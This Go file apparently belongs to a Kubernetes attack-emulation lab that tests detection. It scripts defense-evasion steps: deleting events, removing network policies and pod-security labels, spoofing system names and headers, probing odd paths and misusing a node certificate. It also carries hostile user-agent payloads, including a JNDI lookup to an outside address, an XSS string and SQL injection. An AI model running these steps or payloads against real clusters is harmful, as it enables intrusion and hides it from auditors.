package attack

import (
	"net/http"
	"strings"
)

// evasion are the steps that hide, or blind those who look.
func evasion() []Step {
	return []Step{
		{"A60", "T1070", "events deleted, a collection at a time", deleteEvents},
		{"A61", "T1562", "network policy, pod security and disruption budget removed", lowerGuards},
		{"A62", "T1036", "the system's names; user agents of every kind", disguise},
		{"A63", "T1036", "forged addresses, and one audit ID for many requests", forgeHeaders},
		{"A64", "T1036", "paths and methods written oddly", oddPaths},
		{"A65", "T1078", "a node's certificate used as no node would", nodeAbuse},
	}
}

func deleteEvents(l *Lab) []act {
	return []act{
		l.breakglass.deleteAll("/api/v1/namespaces/ledger/events"),
		l.breakglass.deleteAll("/api/v1/namespaces/sandbox/events"),
		l.breakglass.deleteAll("/apis/events.k8s.io/v1/namespaces/shop/events?limit=50"),
	}
}

func lowerGuards(l *Lab) []act {
	const policy = "/apis/networking.k8s.io/v1/namespaces/ledger/networkpolicies/deny-all"
	const enforce = "pod-security.kubernetes.io/enforce"
	return []act{
		l.developer.delete(policy).refused(),
		l.breakglass.delete(policy),
		l.breakglass.patch("/api/v1/namespaces/ledger", mergePatch, `{"metadata":{"labels":{"`+enforce+`":"privileged"}}}`),
		l.breakglass.patch("/api/v1/namespaces/safe", mergePatch, `{"metadata":{"labels":{"`+enforce+`":null}}}`),
		l.breakglass.delete("/apis/policy/v1/namespaces/ledger/poddisruptionbudgets/api"),
		l.developer.patch("/api/v1/namespaces/sandbox", mergePatch,
			`{"metadata":{"labels":{"`+enforce+`":"privileged"}}}`).refused(),
	}
}

func disguise(l *Lab) []act {
	acts := []act{l.breakglass.create(pod("kube-system", "kube-proxy-x7k2p", shape{}))}
	for _, agent := range []string{
		"", "masscan/1.3", requests, "Mozilla/5.0 (X11; Linux x86_64) sqlmap/1.8",
		"kubelet/v1.36.3 (linux/amd64) kubernetes/3f5a9c1", "kubectl/v1.36.3é✓", `"><script>alert(1)</script>`,
		strings.Repeat("A", 2000), "${jndi:ldap://203.0.113.9/a}", "'; DROP TABLE events; --",
	} {
		acts = append(acts, l.breakglass.with(agent).get("/api/v1/namespaces/ledger/secrets"))
	}
	return acts
}

func forgeHeaders(l *Lab) []act {
	const one = "00000000-0000-0000-0000-000000000000"
	b := l.breakglass.with(curl)
	secret, secrets := "/api/v1/namespaces/ledger/secrets/database", "/api/v1/namespaces/ledger/secrets"
	return []act{
		b.get(secret).header("X-Forwarded-For", "10.0.0.1, 8.8.8.8").header("X-Real-Ip", "9.9.9.9"),
		b.get(secret).header("X-Forwarded-For", "not-an-address, ::1"),
		b.get("/api/v1/namespaces/ledger/pods").header(auditID, one),
		b.get(secrets).header(auditID, one),
		b.get("/api/v1/namespaces/kube-system/secrets").header(auditID, one),
		b.get(secrets).header(auditID, `x y/{}"\<>`+strings.Repeat("z", 500)),
	}
}

func oddPaths(l *Lab) []act {
	const ledger, secrets = "/api/v1/namespaces/ledger", "/api/v1/namespaces/ledger/secrets"
	b := l.breakglass.with(curl)
	var acts []act
	for _, target := range []string{
		"/api/v1/namespaces/kube%2Dsystem/secrets", ledger + "/%73ecrets", "/" + secrets, secrets + "/",
		"/api/v1/./namespaces/ledger/../ledger/secrets", secrets + "%2Fdatabase", secrets + "/database%00",
		secrets + "/%ff%fe", secrets + `?a=%0a%22%5c%ff&b=<>&c=✓`, secrets + "?q=" + strings.Repeat("x", 6000),
		secrets + "?fieldSelector=metadata.name%3Ddatabase", "/API/V1/SECRETS", ledger + "/pods/store-0/no-such-part",
		"/apis/rbac.authorization.k8s.io/v1/namespaces/ledger/no-such-kind", "/api/v1/namespaces/nowhere/secrets",
		"/api/v1/proxy/namespaces/ledger/pods/store-0", "/swaggerapi", "/debug/pprof/cmdline", "/logs/",
		"/api/v1/secrets?watch=1&timeoutSeconds=1",
	} {
		acts = append(acts, b.get(target).answers())
	}
	for _, method := range []string{http.MethodHead, http.MethodOptions, http.MethodTrace} {
		acts = append(acts, b.request(method, secrets).answers())
	}
	acts = append(acts, b.request("FOO", secrets+"/database").answers())
	for _, accept := range []string{
		"application/vnd.kubernetes.protobuf", "application/json;as=Table;v=v1;g=meta.k8s.io",
		"application/json;as=PartialObjectMetadataList;v=v1;g=meta.k8s.io",
	} {
		acts = append(acts, b.get(secrets).replace("Accept", accept))
	}
	return acts
}

func nodeAbuse(l *Lab) []act {
	const media, owned = strategicPatch, "node-restriction.kubernetes.io/owned"
	k, nodes := l.kubelet, "/api/v1/nodes/"
	return []act{
		k.table("/api/v1/secrets").refused(),
		k.get("/api/v1/namespaces/ledger/secrets/database"), // one of its pods uses it
		k.table("/api/v1/pods").refused(),
		k.patch(nodes+l.nodes[0], media, `{"metadata":{"labels":{"x":"y"}}}`).refused(),
		k.patch(nodes+l.nodes[1], media, `{"metadata":{"labels":{"`+owned+`":"y"}}}`).refused(),
		k.post("/api/v1/namespaces/kube-system/serviceaccounts/default/token", tokenRequest).refused(),
		k.table("/api/v1/nodes").refused(),
	}
}
